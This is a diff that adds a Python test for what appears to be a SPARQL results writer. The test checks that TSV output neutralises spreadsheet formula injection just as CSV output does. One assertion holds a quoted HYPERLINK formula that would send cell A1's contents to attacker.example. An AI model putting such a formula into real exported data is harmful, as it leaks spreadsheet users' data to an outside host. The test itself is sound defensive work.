@@ -84,6 +84,28 @@ def test_query_csv_is_safe_and_sparql_csv_is_exact() -> None:
     assert format_for_path("q.csv").name == "csv"
 
 
+def test_query_tsv_is_neutralised_exactly_like_csv() -> None:
+    """Each TSV literal holds what the CSV cell holds (the quote inside the literal's quotes),
+    and stays valid SPARQL TSV: parsed back, the values are the CSV cells."""
+    csv_out, tsv_out = io.BytesIO(), io.BytesIO()
+    write_result(_attack_rows(), get_format("csv"), csv_out)
+    write_result(_attack_rows(), get_format("tsv"), tsv_out)
+    csv_cells = [row[1] for row in _cells(csv_out.getvalue())[1:]]
+    parsed = ox.parse_query_results(tsv_out.getvalue(), ox.QueryResultsFormat.TSV)
+    tsv_values = [solution["text"].value for solution in parsed]  # type: ignore[union-attr]
+    assert tsv_values == csv_cells == ["'" + t for t in ATTACKS]
+    lines = tsv_out.getvalue().decode("utf-8").splitlines()
+    assert (
+        lines[1]
+        == '"0"\t"\'=HYPERLINK(\\"http://attacker.example/?leak=\\"&A1,\\"Click for details\\")"'
+    )
+    harmless = SelectResult(["text"], iter([{"text": ox.Literal(t)} for t in HARMLESS]))
+    out = io.BytesIO()
+    write_result(harmless, get_format("tsv"), out)
+    again = ox.parse_query_results(out.getvalue(), ox.QueryResultsFormat.TSV)
+    assert [solution["text"].value for solution in again] == HARMLESS  # type: ignore[union-attr]
+
+
 # --- the CLI, end to end ---------------------------------------------------------------------
 
 runner = CliRunner()
